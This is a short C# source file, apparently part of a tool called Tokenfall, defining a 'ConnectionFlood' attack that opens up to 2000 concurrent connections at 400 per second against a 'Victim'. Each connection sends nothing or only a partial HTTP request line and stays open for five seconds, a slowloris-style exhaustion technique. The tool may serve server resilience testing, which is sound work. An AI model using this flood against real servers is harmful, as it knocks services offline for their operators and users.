namespace Tokenfall.Attacks.Floods;

/// <summary>Connections that say nothing, or too little.</summary>
internal sealed class ConnectionFlood : IFlood
{
    private static readonly TimeSpan Hold = TimeSpan.FromSeconds(5);

    public string Name => "connections";

    public string Title => "anonymous: connections";

    public string Description => "connections that send nothing, or the first line of a request, and stay for 5 s";

    public int PerSecond => 400;

    public int AtOnce => 2000;

    public Task PrepareAsync(Victim victim) => Task.CompletedTask;

    public Task<string> StepAsync(Victim victim, int number, CancellationToken cancellationToken) =>
        victim.SendRawAsync(number % 2 == 0 ? [] : ["GET / HTTP/1.1\r\n"u8.ToArray()], Hold, cancellationToken);
}
